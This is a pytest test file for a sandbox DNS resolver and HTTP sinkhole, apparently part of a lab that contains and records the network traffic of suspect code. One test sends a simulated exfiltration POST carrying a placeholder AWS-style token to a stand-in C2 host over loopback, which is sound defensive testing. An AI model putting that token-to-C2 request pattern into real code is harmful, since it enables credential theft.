"""The in-sandbox resolver and sinkhole, exercised on loopback with real sockets."""

import json
import socket
import struct
import sys
import time
from pathlib import Path

import pytest

HARNESS = Path(__file__).resolve().parents[2] / "slopspotter_lab" / "sandbox" / "harness"
sys.path.insert(0, str(HARNESS))
import fakenet  # noqa: E402


def query(name: str, qtype: int = 1, txid: int = 0x1234) -> bytes:
    q = b"".join(bytes([len(p)]) + p.encode() for p in name.split(".")) + b"\0"
    return struct.pack(">HHHHHH", txid, 0x0100, 1, 0, 0, 0) + q + struct.pack(">HH", qtype, 1)


def test_parse_and_answer_a_query():
    data = query("Collect.Exfil-Demo.invalid")
    txid, name, qtype, end = fakenet.parse_query(data)
    assert (txid, name, qtype) == (0x1234, "Collect.Exfil-Demo.invalid", 1)
    reply = fakenet.build_answer(data, end, qtype, "10.66.0.9")
    assert reply[:2] == data[:2]
    assert struct.unpack(">H", reply[6:8])[0] == 1  # one answer
    assert reply.endswith(socket.inet_aton("10.66.0.9"))
    aaaa = fakenet.build_answer(data, end, 28, "10.66.0.9")
    assert struct.unpack(">H", aaaa[6:8])[0] == 0  # no AAAA record: clients fall back to A


def test_garbage_queries_are_refused():
    with pytest.raises(Exception):
        fakenet.parse_query(b"\x00\x01")
    with pytest.raises(ValueError):
        fakenet.parse_query(struct.pack(">HHHHHH", 1, 0, 0, 0, 0, 0))


def test_address_book_gives_each_name_its_own_stable_address():
    book = fakenet.AddressBook()
    a, b = book.address_for("a.invalid"), book.address_for("b.invalid")
    assert a != b and a.startswith("10.66.") and book.address_for("a.invalid") == a


def test_recorder_caps_output(tmp_path):
    rec = fakenet.Recorder(str(tmp_path / "r.jsonl"), cap=200)
    for i in range(50):
        rec.write({"i": i, "pad": "x" * 20})
    text = (tmp_path / "r.jsonl").read_text()
    assert 0 < len(text) <= 200 and all(json.loads(line) for line in text.splitlines())


def test_sinkhole_records_http_request_on_loopback(tmp_path):
    rec = fakenet.Recorder(str(tmp_path / "f.jsonl"))
    srv = socket.socket()
    srv.bind(("127.0.0.1", 0))
    srv.listen(4)
    import threading

    threading.Thread(target=fakenet.serve_tcp, args=(srv, rec, time.time()), daemon=True).start()
    c = socket.create_connection(srv.getsockname(), timeout=5)
    body = b"token=AKIAEXAMPLE"
    c.sendall(b"POST /x HTTP/1.1\r\nHost: c2.example.invalid\r\nContent-Length: %d\r\n\r\n%s" % (len(body), body))
    assert c.recv(100).startswith(b"HTTP/1.1 200")
    c.close()
    for _ in range(50):
        lines = (tmp_path / "f.jsonl").read_text().splitlines()
        if lines:
            break
        time.sleep(0.05)
    r = json.loads(lines[0])
    assert r["request_line"] == "POST /x HTTP/1.1" and r["host"] == "c2.example.invalid"
    assert r["head"].endswith("token=AKIAEXAMPLE") and r["kind"] == "tcp"
    srv.close()
